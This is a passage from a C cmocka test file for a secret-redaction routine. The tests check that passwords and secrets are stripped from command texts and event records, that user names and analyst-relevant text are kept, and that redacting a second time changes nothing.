            snprintf(text, sizeof text, "%.*s%s", (int)strcspn(program, " "), program, rows[i].words);
            check_gone(&(struct line){text, NULL}, shown_text(text));
        }
    assert_int_equal(wrong, 0);
}

static void test_a_users_name_behind_u_stays_where_the_program_takes_one(void **state)
{
    const char *programs = "docker podman nerdctl kubectl oc id sudo su ssh rsync chown install runuser psql systemctl crictl ctr setpriv chroot";
    (void)state;
    wrong = 0;
    for (const char *program = programs; *program; program = next_word(program)) {
        char text[100];
        snprintf(text, sizeof text, "%.*s -u bob:staff", (int)strcspn(program, " "), program);
        check_same(shown_text(text), text);
    }
    assert_int_equal(wrong, 0);
}

static void test_what_an_analyst_needs_of_texts_stays(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(texts_that_stay); i++)
        check_same(shown_text(texts_that_stay[i]), texts_that_stay[i]);
    assert_int_equal(wrong, 0);
}

static void test_secrets_in_events_go_and_what_stands_beside_them_stays(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(trees_that_go); i++)
        check_gone(&trees_that_go[i], written(trees_that_go[i].text, true));
    assert_int_equal(wrong, 0);
}

static void test_what_an_analyst_needs_of_events_stays(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(trees_that_stay); i++) {
        char *plain = written(trees_that_stay[i], false);
        check_same(written(trees_that_stay[i], true), plain);
        free(plain);
    }
    assert_int_equal(wrong, 0);
}

/* In a dead letter, broken off and read as no more than bytes. */
static void test_secrets_in_events_that_are_cut_off_go_too(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(trees_that_go); i++) {
        struct buffer out = {NULL, 0, 0};
        struct slice text = slice_of(trees_that_go[i].text);
        if (strstr(text.bytes, "SecretList") || strstr(text.bytes, "\"List\"") || strstr(text.bytes, "[[\"A\"") ||
            strstr(text.bytes, "\"Table\"") || strstr(text.bytes, "\"requirepass\"") || strstr(text.bytes, "bad s3cretX"))
            continue; /* what makes these secret stands elsewhere */
        redact_bytes(slice_first(text, text.length - 1), NULL, &out);
        check_gone(&(struct line){text.bytes, NULL}, buffer_take(&out));
    }
    assert_int_equal(wrong, 0);
}

/* A text goes through more than one hand: evidence is redacted, and the alert that quotes it. */
static void test_what_was_redacted_once_is_the_same_when_it_is_redacted_again(void **state)
{
    (void)state;
    wrong = 0;
    for (size_t i = 0; i < COUNT(texts_that_go); i++) {
        char *once = shown_text(texts_that_go[i].text);
        check_same(shown_text(once), once);
        free(once);
    }
    for (size_t i = 0; i < COUNT(trees_that_go); i++) {
        char *once = written(trees_that_go[i].text, true);
        check_same(written(once, true), once);
        free(once);
    }
    assert_int_equal(wrong, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_secrets_in_texts_go_and_what_stands_beside_them_stays),
        cmocka_unit_test(test_every_program_that_takes_a_password_by_a_short_option_is_known),
        cmocka_unit_test(test_a_users_name_behind_u_stays_where_the_program_takes_one),
        cmocka_unit_test(test_what_an_analyst_needs_of_texts_stays),
        cmocka_unit_test(test_secrets_in_events_go_and_what_stands_beside_them_stays),
        cmocka_unit_test(test_what_an_analyst_needs_of_events_stays),
        cmocka_unit_test(test_secrets_in_events_that_are_cut_off_go_too),
        cmocka_unit_test(test_what_was_redacted_once_is_the_same_when_it_is_redacted_again),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
